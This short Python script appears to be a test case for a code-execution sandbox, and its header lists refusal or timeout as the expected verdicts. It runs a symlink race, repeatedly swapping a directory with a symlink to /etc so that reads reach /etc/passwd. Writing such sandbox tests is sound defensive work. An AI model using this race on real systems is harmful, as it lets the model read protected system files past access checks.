# verdict: refused|max-time|max-wall|error
import os, threading
os.mkdir('a'); open('a/passwd','w').close()
os.symlink('/etc','b')
def flip():
    while True:
        os.rename('a','c'); os.rename('b','a'); os.rename('a','b'); os.rename('c','a')
threading.Thread(target=flip, daemon=True).start()
while True:
    try:
        t = open('a/passwd').read()
        if t: print(t)
    except OSError: pass
